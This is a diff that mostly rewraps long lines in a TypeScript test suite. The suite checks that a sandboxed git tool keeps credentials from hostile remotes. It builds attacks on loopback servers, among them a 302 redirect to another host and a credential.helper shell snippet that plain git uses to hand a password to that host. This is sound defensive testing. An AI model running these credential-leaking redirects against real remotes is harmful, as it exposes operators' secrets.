@@ -1,5 +1,6 @@
-// Remotes and repositories that are out to get the operator's credential, to be reached unseen, or to take all that there is. Each attack works with plain
-// git or without the one defence, in a directory and on loopback servers that the test made; through the kernel it does nothing.
+// Remotes and repositories that are out to get the operator's credential, to be reached unseen, or to take all that
+// there is. Each attack works with plain git or without the one defence, in a directory and on loopback servers that
+// the test made; through the kernel it does nothing.
 import { spawn } from "node:child_process";
 import { once } from "node:events";
 import { existsSync, rmSync, writeFileSync } from "node:fs";
@@ -56,7 +57,12 @@ async function world(listener: RequestListener): Promise<World> {
   // plain git reaches the servers at their ports on loopback
   const options = [
     ...["-c", `http.sslCAInfo=${certificate.certFile}`],
-    ...["-c", `http.curloptResolve=${HOST}:${port(":443")}:127.0.0.1`, "-c", `http.curloptResolve=${OTHER}:${port(":8443")}:127.0.0.1`],
+    ...[
+      "-c",
+      `http.curloptResolve=${HOST}:${port(":443")}:127.0.0.1`,
+      "-c",
+      `http.curloptResolve=${OTHER}:${port(":8443")}:127.0.0.1`,
+    ],
   ];
   return { internet, certificate, directory: place.base, stolen, options };
 }
@@ -91,11 +97,22 @@ async function kernelOf({ internet, certificate }: World, options: Partial<Memor
     gitRemotes: remotesOf(certificate),
     ...options,
   });
-  const ask = async (operation: string, args: readonly string[], cwd?: string, signal?: AbortSignal): Promise<string> => {
-    const { outcome } = await kernel.call("git", { operation, args, ...(cwd !== undefined && { cwd }) }, signal ? { signal } : {});
+  const ask = async (
+    operation: string,
+    args: readonly string[],
+    cwd?: string,
+    signal?: AbortSignal,
+  ): Promise<string> => {
+    const { outcome } = await kernel.call(
+      "git",
+      { operation, args, ...(cwd !== undefined && { cwd }) },
+      signal ? { signal } : {},
+    );
     if (kernel.internalErrors.length > 0) throw kernel.internalErrors[0];
     if (outcome.kind === "denied") return `${outcome.denial.reason}: ${outcome.denial.message}`;
-    return outcome.kind === "error" ? `${outcome.code}: ${outcome.message}` : `success: ${JSON.stringify(outcome.data)}`;
+    return outcome.kind === "error"
+      ? `${outcome.code}: ${outcome.message}`
+      : `success: ${JSON.stringify(outcome.data)}`;
   };
   return { kernel, ask };
 }
@@ -118,7 +135,8 @@ describe("a credential goes to its host alone", () => {
   test("a remote that sends elsewhere is not followed; plain git takes what it was told along", async () => {
     const listener: { current: RequestListener } = { current: () => undefined };
     const at = await world((request, response) => listener.current(request, response));
-    listener.current = ({ url }, response) => response.writeHead(302, { location: `https://${OTHER}:${loopback(at, 8443)}${url}` }).end();
+    listener.current = ({ url }, response) =>
+      response.writeHead(302, { location: `https://${OTHER}:${loopback(at, 8443)}${url}` }).end();
     const plain = plainGit(at.directory);
     const own = `https://${HOST}:${loopback(at, 443)}/team/service.git`;
     await plainly(
@@ -134,7 +152,8 @@ describe("a credential goes to its host alone", () => {
     expect(at.stolen).toEqual([VALUE]);
 
     at.stolen.length = 0;
-    listener.current = ({ url }, response) => response.writeHead(302, { location: `https://${OTHER}:8443${url}` }).end();
+    listener.current = ({ url }, response) =>
+      response.writeHead(302, { location: `https://${OTHER}:8443${url}` }).end();
     const { ask } = await kernelOf(at);
     expect(await ask("CLONE", [ADDRESS, "service"])).toMatch(/^GIT_FAILED: .*returned error: 302/);
     expect([at.stolen, at.internet.lookedUp]).toEqual([[], [HOST]]);
@@ -149,8 +168,20 @@ describe("a credential goes to its host alone", () => {
     await at.internet.https(OTHER, 8443, at.certificate, asking);
     const helper = `!f() { echo username=${LOGIN.username}; echo password=${LOGIN.password}; }; f`;
     const port = at.internet.servers.get("93.184.216.34:8443") ?? 0;
-    const where = ["-c", `http.sslCAInfo=${at.certificate.certFile}`, "-c", `http.curloptResolve=${OTHER}:${port}:127.0.0.1`];
-    await plainly(at.directory, ...where, "-c", `credential.helper=${helper}`, "ls-remote", `https://${OTHER}:${port}/x.git`);
+    const where = [
+      "-c",
+      `http.sslCAInfo=${at.certificate.certFile}`,
+      "-c",
+      `http.curloptResolve=${OTHER}:${port}:127.0.0.1`,
+    ];
+    await plainly(
+      at.directory,
+      ...where,
+      "-c",
+      `credential.helper=${helper}`,
+      "ls-remote",
+      `https://${OTHER}:${port}/x.git`,
+    );
     expect(at.stolen).toContain(VALUE);
 
     at.stolen.length = 0;
@@ -214,7 +245,12 @@ describe("a repository's own settings about remotes have no effect", () => {
     const asks = gitServer(join(at.directory, "served-2"), LOGIN);
     await at.internet.https(HOST, 443, at.certificate, asks.listener);
     const port = loopback(at, 443);
-    const where = ["-c", `http.sslCAInfo=${at.certificate.certFile}`, "-c", `http.curloptResolve=${HOST}:${port}:127.0.0.1`];
+    const where = [
+      "-c",
+      `http.sslCAInfo=${at.certificate.certFile}`,
+      "-c",
+      `http.curloptResolve=${HOST}:${port}:127.0.0.1`,
+    ];
     if (name === "core.gitProxy") await plainly(plain.directory, "ls-remote", `git://127.0.0.1:${port}/x`);
     else await plainly(plain.directory, ...where, "ls-remote", `https://${HOST}:${port}/team/service.git`);
     expect(existsSync(trace)).toBe(true);
@@ -269,7 +305,13 @@ describe("a repository's own settings about remotes have no effect", () => {
 describe("whatever runs in the sandbox, a run says to a remote what it was allowed to", () => {
   /** A proxy as a run of git has it, and requests that something else in the sandbox makes. */
   async function proxyOf(at: World, secure: boolean) {
-    const reach = { address: ADDRESS, host: HOST, port: 443, path: "/team/service.git", service: "git-upload-pack" } as const;
+    const reach = {
+      address: ADDRESS,
+      host: HOST,
+      port: 443,
+      path: "/team/service.git",
+      service: "git-upload-pack",
+    } as const;
     const places = { clients: new Places(8), upstreams: new Places(8) };
     const way = secure ? { secure: secureWay(reach, remotesOf(at.certificate)) } : {};
     const proxy = new EgressProxy({
@@ -282,13 +324,17 @@ describe("whatever runs in the sandbox, a run says to a remote what it was allow
     await proxy.listen(path);
     onTestFinished(async () => void (await proxy.close()));
     return async (line: string, ...headers: readonly string[]) =>
-      (await firstOf(path, `${line} HTTP/1.1\r\nHost: ${HOST}:443\r\nConnection: close\r\n${headers.join("")}\r\n`)).split("\r\n")[0];
+      (
+        await firstOf(path, `${line} HTTP/1.1\r\nHost: ${HOST}:443\r\nConnection: close\r\n${headers.join("")}\r\n`)
+      ).split("\r\n")[0];
   }
 
   test("a fetch does not push, nothing else is asked, no tunnel is opened, and no other name is told", async () => {
     const seen: string[] = [];
     const at = await world(({ method, url, headers }, response) => {
-      seen.push(`${method} ${url} ${headers.authorization === VALUE ? "ours" : headers.authorization} ${headers.cookie ?? ""}`.trim());
+      seen.push(
+        `${method} ${url} ${headers.authorization === VALUE ? "ours" : headers.authorization} ${headers.cookie ?? ""}`.trim(),
+      );
       response.end("ok");
     });
     const say = await proxyOf(at, true);
@@ -338,7 +384,9 @@ describe("what a remote may take is bounded", () => {
       onTestFinished(() => void socket.destroy());
     });
     expect(hanging).toBe(true);
-    expect(await ask("CLONE", [ADDRESS, "service"], undefined, AbortSignal.timeout(2500))).toMatch(/^(?:CANCELLED|OUTCOME_UNKNOWN)/);
+    expect(await ask("CLONE", [ADDRESS, "service"], undefined, AbortSignal.timeout(2500))).toMatch(
+      /^(?:CANCELLED|OUTCOME_UNKNOWN)/,
+    );
     expect(existsSync(join(kernel.root, "service/.git/HEAD"))).toBe(false);
   });
 });
